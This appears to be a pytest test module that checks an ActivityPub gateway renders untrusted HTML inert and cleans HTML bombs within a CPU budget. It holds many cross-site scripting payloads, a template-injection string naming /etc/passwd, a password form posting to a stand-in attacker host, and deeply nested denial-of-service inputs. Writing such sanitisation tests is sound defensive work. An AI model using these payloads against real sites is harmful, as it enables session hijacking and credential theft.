"""HTML of strangers: delivered by a peer or posted by a client, it shows nothing but text, links and emphasis."""

from __future__ import annotations

import json
import re
import time
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlencode
from xml.etree import ElementTree as ET

import pytest
import yardstick
from attacks.web_dom import CSP, check_link, check_page, check_post_html, policy_of
from attacks.web_scene import ALICE, CATALOGUE, FORM, Case, Site, cases, opened
from world import BASE

from gateway.activitypub.note import Draft
from gateway.activitypub.properties import nodes, text_of
from gateway.flows import attach, publish

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

    from web.asking import Answer

pytestmark = pytest.mark.anyio

ATOM = "{http://www.w3.org/2005/Atom}"
SINKS = ("content", "summary", "name", "bio", "field", "alt", "poll")
HTML_MEMBERS = ("content", "summary")
PAYLOADS = tuple(known for known in CATALOGUE if known.startswith("WEB-XSS-") and known < "WEB-XSS-022")
# What the catalogue does not list but its rule covers.
NEIGHBOURS = {
    "script": "<script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg/onload=alert(1)>",
    "handler in another case": '<p OnClick="alert(1)" onfocus=alert(1) autofocus tabindex=0>x</p>',
    "slash instead of blank": "<img/src=x/onerror=alert(1)>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript in capitals": '<a href=" JaVaScRiPt&colon;alert(1)">x</a>',
    "newline in the scheme": '<a href="java\nscript:alert(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "relative link": '<a href="//evil.example/">x</a><a href="\\\\evil.example">y</a>',
    "target": '<a href="https://evil.example/" target="_top" rel="opener" ping="https://evil.example/">x</a>',
    "style": '<style>*{display:none}</style><p style="position:fixed;inset:0">x</p>',
    "stylesheet": '<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href=//evil.example>',
    "form": '<form action="https://evil.example/"><input name=password><button formaction=//evil.example>x</form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "media": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe><frameset onload=alert(1)>',
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "clobbering": '<p id="content" name="content">x</p><a id=skip name=body>y</a>',
    "our own class": '<p class="panel">x</p><span class="no label">y</span><a class="skip" href="https://x.example/">z</a>',
    "end tags": "</div></article></main></body></html><h1>mine</h1>",
    "comment": "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?php x ?>",
    "unclosed": '<p title="<!-- <a href=\'',
    "template": "<template><img src=x onerror=alert(1)></template><slot></slot>",
    "svg foreign object": '<svg><foreignObject><p/title="</foreignObject><img src onerror=alert(1)>"></svg>',
    "math": '<math><a xlink:href="javascript:alert(1)">x</a><annotation-xml encoding="text/html"><script>alert(1)',
    "select": "<select><noscript></select><img src=x onerror=alert(1)></noscript>",
    "control characters": "<scr\1ipt>alert(1)</script><img src=x on\x0cerror=alert(1)><a href='\x1fjavascript:x'>y</a>",
    "fullwidth": "＜script＞alert(1)＜/script＞",
    "twice encoded": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "numbered entities": "&#60;img src=x onerror=alert&#40;1&#41;&#62;",
    "quote": "\"><img src=x onerror=alert(1)>' onmouseover=alert(1) x='",
    "jinja": "{% include '/etc/passwd' %}{{ config }}${7*7}<%= 7*7 %>#{7*7}",
}  # fmt: skip


@pytest.fixture
async def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Site]:
    """Return a site of the test's own."""
    async with opened(tmp_path, monkeypatch) as made:
        yield made


def written(sink: str, payload: str, note: dict[str, Any]) -> dict[str, Any]:
    """Return a note with a payload in one of its members; a poll is another type."""
    image = {"type": "Image", "mediaType": "image/png", "url": "https://peer.example/1.png", "name": payload}
    members: dict[str, dict[str, Any]] = {
        "content": {"content": payload, "contentMap": {"en": payload, payload: payload}},
        "summary": {"summary": payload, "summaryMap": {"en": payload}},
        "name": {"name": payload, "nameMap": {"en": payload}},
        "alt": {"attachment": [image]},
        "poll": {"type": "Question", "oneOf": [{"type": "Note", "name": payload, "content": payload}]},
    }
    return {**note, **members.get(sink, {})}


def introduced(sink: str, payload: str) -> dict[str, Any]:
    """Return what an actor says about itself."""
    value = [{"type": "PropertyValue", "name": payload, "value": payload}]
    members: dict[str, dict[str, Any]] = {
        "name": {"name": payload},
        "bio": {"summary": payload},
        "field": {"attachment": value},
    }
    return members.get(sink, {})


async def delivered(site: Site, sink: str, payload: str) -> str:
    """Let bob reply to alice with a payload, and change his profile; return the id of his note."""
    bob = site.bob
    note = written(sink, payload, bob.note("reply", inReplyTo=site.posts["public"].id, cc=[ALICE]))
    bob.serve_document(bob.me.id, bob.me.document(**introduced(sink, payload)))
    bob.serve_document(note["id"], {"@context": "https://www.w3.org/ns/activitystreams", **note})
    await site.arrives(bob.activity("Create", note, cc=[ALICE]))
    await site.arrives(bob.activity("Update", bob.me.document(**introduced(sink, payload)), cc=[ALICE]))
    assert site.gateway.kit.store.objects.get(note["id"]) is not None
    return str(note["id"])


async def posted(site: Site, sink: str, payload: str) -> None:
    """Let alice's own software, and the command line, publish a payload."""
    upload = attach.Upload(content=b"GIF89a", name="a.gif", alt=payload)
    if sink in ("content", "alt"):
        await publish.create(site.gateway.kit, site.alice, Draft(text=payload), uploads=[upload])
    if changed := introduced(sink, payload):
        answer = await site.send({"type": "Update", "object": {"id": ALICE, "type": "Person", **changed}})
        assert answer.status == 201, answer.text
    note = written(sink, payload, {"type": "Note", "content": "x #tagged"})
    if sink == "alt":
        document = (await site.upload(b"GIF89a more")).json
        note["attachment"].append({**document, "name": payload})
    answer = await site.send(note)
    assert answer.status in (201, 400), answer.text
    assert answer.status == 201 or sink not in ("content", "summary", "bio", "alt"), answer.text


def post_pages(site: Site) -> list[str]:
    """Return the page of every open post of alice's."""
    posts = site.gateway.kit.store.objects.by_owner(ALICE, limit=100)
    return [f"/@alice/{post.id.rpartition('/')[2]}" for post in posts]


async def check_pages(site: Site) -> str:
    """Look at every page that may show something of a stranger's; return all text on them."""
    seen = []
    tail = ["/", "/@alice", "/@alice?lang=ja", "/tags/tagged", "/about", "/about/policy", "/problems/gone", "/@nobody"]
    for path in [*post_pages(site), *tail]:
        answer = await site.get(path, accept="text/html")
        assert answer.media_type.startswith("text/html"), path
        policy = policy_of(answer)
        assert policy.items() >= CSP.items(), path
        assert not any(name.startswith(("script", "object", "frame-src", "child", "worker")) for name in policy), path
        seen.append(check_page(answer.text).root.text)
    return "\n".join(seen)


async def check_feed(site: Site) -> str:
    """Look at the feed as a reader does; return its HTML."""
    answer = await site.get("/@alice.atom")
    assert answer.media_type == "application/atom+xml; charset=utf-8"
    root = ET.fromstring(answer.text)  # noqa: S314 - our own feed
    for text in root.iter(f"{ATOM}content"):
        assert text.get("type") == "html"
        check_post_html(text.text or "")
    for text in (*root.iter(f"{ATOM}title"), *root.iter(f"{ATOM}summary"), *root.iter(f"{ATOM}name")):
        assert text.get("type", "text") == "text"
        assert len(text) == 0
    for link in root.iter(f"{ATOM}link"):
        check_link(link.get("href", ""))
    return "\n".join(text.text or "" for text in root.iter(f"{ATOM}content"))


def check_document(answer: Answer) -> None:
    """Fail for a document that a browser would take for a page, or whose HTML is not fit for other servers."""
    assert answer.status == 200, answer.text
    assert answer.media_type.partition(";")[0] in ("application/activity+json", "application/json")
    assert policy_of(answer)["default-src"] == "'none'"
    for path, node in nodes(answer.json):
        if str(node.get("id", BASE)).startswith(BASE) and path[-1:] != ("source",):
            for name in HTML_MEMBERS:
                check_post_html(text_of(node, name))


async def check_documents(site: Site) -> None:
    """Look at every document of ours that other servers and clients read."""
    for target in ("/users/alice", "/users/alice/outbox?page=1", "/users/alice/featured"):
        check_document(await site.signed(target))
    for path in post_pages(site):
        check_document(await site.signed(f"/posts/{path.rpartition('/')[2]}"))
    check_document(await site.signed(f"/posts/{site.tid()}/replies"))


async def check_what_is_fetched(site: Site, note: str) -> None:
    """Look at what alice's own software reads of a stranger: JSON that no browser shows as a page."""
    inbox = await site.owned("/users/alice/inbox?page=1", accept="text/html")
    form = [("content-type", FORM), site.bearer(), ("accept", "text/html")]
    proxied = [
        await site.ask("POST", "/api/proxy", form, urlencode({"id": one}).encode()) for one in (note, site.bob.me.id)
    ]
    inspected = await site.owned(f"/inspect.json?url={quote(note, safe='')}", accept="text/html")
    for answer in (inbox, *proxied, inspected):
        assert answer.status == 200, answer.text
        assert answer.media_type in ("application/activity+json", "application/json")
        assert policy_of(answer)["default-src"] == "'none'"


@pytest.mark.parametrize("sink", SINKS)
@cases(*PAYLOADS)
async def test_html_of_a_peer_is_inert(site: Site, case: Case, sink: str) -> None:
    """Whatever a peer writes into a member, every page, feed and document shows it as text or leaves it out."""
    note = await delivered(site, sink, case.payload)
    shown = await check_pages(site)
    await check_feed(site)
    await check_documents(site)
    await check_what_is_fetched(site, note)
    assert "reply" in shown or sink == "content"
    if case.id in ("WEB-XSS-018", "WEB-XSS-020") and sink in ("content", "summary"):
        assert "<script>alert(1)</script>" in shown or "{{7*7}} {%25 x %25}" in shown
    if sink == "alt":
        assert case.payload in shown
    case.proves("inert_in_dom", "csp_blocks")


@pytest.mark.parametrize("sink", SINKS)
@cases(*PAYLOADS)
async def test_html_of_a_client_is_inert(site: Site, case: Case, sink: str) -> None:
    """What an account's own software posts is no more active than what a stranger does."""
    await posted(site, sink, case.payload)
    shown = await check_pages(site)
    feed = await check_feed(site)
    await check_documents(site)
    if sink in ("content", "alt"):
        assert case.payload in shown  # the command line writes text, not HTML
    if case.id == "WEB-XSS-018" and sink == "content":
        assert "&lt;script&gt;" in feed
    case.proves("inert_in_dom", "csp_blocks")


@pytest.mark.parametrize("name", NEIGHBOURS)
async def test_other_html_is_inert(site: Site, name: str) -> None:
    """The rule holds for tags, attributes, schemes and encodings that the catalogue does not list."""
    for sink in SINKS:
        await delivered(site, sink, NEIGHBOURS[name])
        await posted(site, sink, NEIGHBOURS[name])
    await check_pages(site)
    await check_feed(site)
    await check_documents(site)


async def test_a_picture_from_elsewhere_is_a_link(site: Site) -> None:
    """What our pages do not load, they do not try to: readers' addresses are nobody else's business."""
    picture = {"type": "Image", "mediaType": "image/png", "url": "https://peer.example/1.png", "name": "a kite"}
    assert (await site.send({"type": "Note", "content": "x", "attachment": [picture]})).status == 201
    shown = check_page((await site.get("/@alice")).text).root
    assert [one.attributes["src"] for one in shown.all("img") if "peer.example" in one.attributes["src"]] == []
    assert [one.text for one in shown.all("a") if one.attributes["href"] == picture["url"]] == ["a kite"]


async def test_a_NUL_never_gets_in(site: Site) -> None:  # noqa: N802 - its name
    """What a parser may drop is refused before anybody parses it."""
    note = site.bob.note("<scr\0ipt>alert(1)</script>", cc=[ALICE])
    await site.arrives(site.bob.activity("Create", note, cc=[ALICE]), 400)
    assert (await site.send({"type": "Note", "content": "<scr\0ipt>alert(1)</script>"})).status == 400


@pytest.mark.parametrize("member", ["summary", "name"])
async def test_the_text_of_a_profile_is_text_for_other_servers(site: Site, member: str) -> None:
    """An actor's summary is HTML for whoever reads it: a text with signs in it goes out with entities."""
    text = "1 < 2 & <b>bold</b> <script>alert(1)</script>"
    await site.send({"type": "Update", "object": {"id": ALICE, "type": "Person", member: text.replace("<", "&lt;")}})
    document = (await site.signed("/users/alice")).json
    if member == "summary":
        assert check_post_html(document["summary"]).root.text == text
    else:
        assert document["name"] == text
    assert text in check_page((await site.get("/@alice")).text).root.text


async def test_a_content_warning_is_text_for_other_servers(site: Site) -> None:
    """The warning that the command line writes is text: its document says so with entities."""
    warning = "<img src=x onerror=alert(1)> & co"
    stored, _ = await publish.create(site.gateway.kit, site.alice, Draft(text="x", warning=warning))
    document = (await site.signed(stored.id.removeprefix(BASE))).json
    assert check_post_html(document["summary"]).root.text == warning
    assert warning in check_page((await site.get(f"/@alice/{stored.id.rpartition('/')[2]}")).text).root.text


async def test_the_policy_of_pages_is_the_one_that_was_decided(site: Site) -> None:
    """No page lets more in than styles, pictures and forms of this site: nothing is added to the policy."""
    for path in ("/", "/@alice", *post_pages(site)[:1], "/sign-in", "/about", "/nowhere"):
        assert policy_of(await site.get(path, accept="text/html")) == CSP


EMOJI: dict[str, tuple[dict[str, Any], Any]] = {
    "quote in the name": ({"name": ':a" onload="alert(1):'}, "https://peer.example/a.png"),
    "tag in the name": ({"name": ":<img src=x onerror=alert(1)>:"}, "https://peer.example/a.png"),
    "quote in the address": ({"name": ":a:"}, 'https://peer.example/a.png" onerror="alert(1)'),
    "javascript address": ({"name": ":a:"}, "javascript:alert(1)"),
    "data address": ({"name": ":a:"}, "data:image/svg+xml,<svg onload=alert(1)>"),
    "a regular expression": ({"name": ":(a+)+$|.*:"}, "https://peer.example/a.png"),
    "a number": ({"name": 5}, 7),
    "markup as id": ({"name": ":a:", "id": '"><script>alert(1)</script>'}, ["<script>alert(1)</script>"]),
}


@pytest.mark.parametrize("emoji", EMOJI)
@cases("WEB-XSS-022")
async def test_an_emoji_is_no_way_in(site: Site, case: Case, emoji: str) -> None:
    """Neither the name nor the picture of a custom emoji gets out of its quotes, wherever its code stands."""
    named, url = EMOJI[emoji]
    tag = {"type": "Emoji", "icon": {"type": "Image", "mediaType": "image/png", "url": url}, **named}
    code = str(tag["name"])
    note = site.bob.note(f"reply {code}", inReplyTo=site.posts["public"].id, cc=[ALICE], tag=[tag])
    await site.arrives(site.bob.activity("Create", note, cc=[ALICE]))
    answer = await site.send({"type": "Note", "content": f"<p>x {code}</p>", "tag": [tag]})
    assert answer.status in (201, 400)
    await check_pages(site)
    await check_feed(site)
    await check_documents(site)
    page = (await site.get(f"/@alice/{site.tid()}")).text
    assert note["id"] in page
    assert not re.search(r"<img[^>]+peer\.example", page)
    case.proves("escaped")


BOMBS: dict[str, dict[str, Any]] = {
    "100,000 nested b": {"content": "<b>" * 100_000},
    "an attribute of 1 MB": {"content": f'<p title="{"x" * 1_000_000}">x</p>'},
    "50,000 links": {"content": '<a href="https://evil.example/1">x</a>' * 50_000},
    "nested div": {"content": "<div>" * 20_000},
    "nested lists": {"content": "<ul><li>" * 12_500},
    "nested quotes": {"content": "<blockquote>" * 8_333},
    "misnested": {"content": "<a><b><p>" * 6_000 + "</a>" * 6_000},
    "tables": {"content": "<b>" * 500 + "<table>" * 12_000},
    "100,000 attributes": {"content": f"<p {' '.join(f'a{number}' for number in range(14_000))}>x</p>"},
    "entities": {"content": "&lt;" * 25_000},
    "end tags": {"content": "</p>" * 25_000},
    "in eight languages": {"contentMap": {f"l{number}": "<ul><li>" * 12_500 for number in range(8)}},
    "in the warning": {"summary": "<ul><li>" * 12_500},
    "in eight poll options": {"oneOf": [{"content": "<ul><li>" * 12_500}] * 8, "type": "Question"},
    "in text": {"content": "@a@b." * 20_000 + "#1" * 10_000 + "http://" + "." * 20_000},
    "blank lines": {"source": {"content": "\n \n" * 30_000, "mediaType": "text/plain"}, "content": None},
}  # fmt: skip


@pytest.mark.parametrize("bomb", BOMBS)
@cases("WEB-XSS-024")
async def test_html_is_cleaned_within_its_time(site: Site, case: Case, bomb: str) -> None:
    """Taking, keeping, showing and feeding deep, broken or endless HTML takes at most half a second of CPU each."""
    note = site.bob.note("x", inReplyTo=site.posts["public"].id, cc=[ALICE], **BOMBS[bomb])
    document = site.bob.activity("Create", {name: value for name, value in note.items() if value is not None})
    request = site.bob.signed(f"{BASE}/inbox", json.dumps({**document, "cc": [ALICE]}).encode())
    spent = {}

    async def measured(name: str, work: Any) -> None:
        began = time.process_time()
        await work
        spent[name] = round(yardstick.milliseconds(began))

    await measured("taken", site.bob.send(request))
    await measured("kept", site.world.drain())
    await measured("shown", site.get(f"/@alice/{site.tid()}"))
    own = {"type": "Note", "content": "x", **BOMBS[bomb]}
    await measured("posted", site.send({name: value for name, value in own.items() if value is not None}))
    await measured("profile", site.get("/@alice"))
    await measured("fed", site.get("/@alice.atom"))
    assert max(spent.values()) <= 500, spent
    case.proves("cpu_ms_le:500")
